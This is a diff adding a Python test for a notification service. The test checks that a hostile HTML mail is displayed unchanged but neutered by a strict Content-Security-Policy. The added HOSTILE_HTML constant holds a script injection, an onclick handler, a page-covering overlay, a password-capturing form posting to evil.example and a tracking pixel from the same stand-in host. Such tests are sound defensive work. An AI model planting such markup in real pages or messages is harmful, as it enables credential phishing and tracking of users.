@@ -72,6 +72,33 @@ async def test_an_alarm_rings_once(client: httpx2.AsyncClient) -> None:
     assert [event["state"] for event in delivery["timeline"]][-1] == "SENT"
 
 
+HOSTILE_HTML = (
+    "<script>alert(1)</script><form action='https://evil.example'><input name='password'></form><img src='https://evil.example/pixel'>"
+    "<style>body{position:fixed;inset:0;background:red}</style><p onclick='alert(2)'>مرحبا &#128276;</p>"
+)
+
+
+async def test_a_mail_is_shown_as_it_is_and_can_do_nothing(client: httpx2.AsyncClient) -> None:
+    """Its HTML reaches the frame unchanged, and the answer forbids script, forms, whatever lies elsewhere, and every frame but our own."""
+    subject = f"hostile {secrets.token_hex(4)}"
+    body = {"to": ["ann@example.com"], "subject": subject, "text": "plain words", "html": HOSTILE_HTML}
+    sent = await client.post("/v1/notifications", json=body)
+    assert sent.status_code == 200, sent.text
+
+    async def arrived() -> bool:
+        return len(await inbox(client, subject)) == 1
+
+    await eventually(arrived)
+    message = (await inbox(client, subject))[0]
+    shown = await client.get(f"/v1/{message['name']}:show")
+    assert (shown.status_code, shown.headers["content-type"]) == (200, "text/html; charset=utf-8")
+    assert shown.text == message["html"]
+    policy = [part.strip() for part in shown.headers["content-security-policy"].split(";")]
+    assert {"sandbox", "default-src 'none'", "form-action 'none'", "frame-ancestors 'self'", "img-src data:"} <= set(policy)
+    assert not any(part.startswith("script-src") for part in policy)
+    assert (await client.get("/v1/inbox/messages/none:show")).status_code == 404
+
+
 async def test_the_short_form_makes_an_alarm_with_and_without_the_slash(client: httpx2.AsyncClient) -> None:
     """The four fields of the first alarm system are enough."""
     for path in ("/alarms/", "/alarms"):
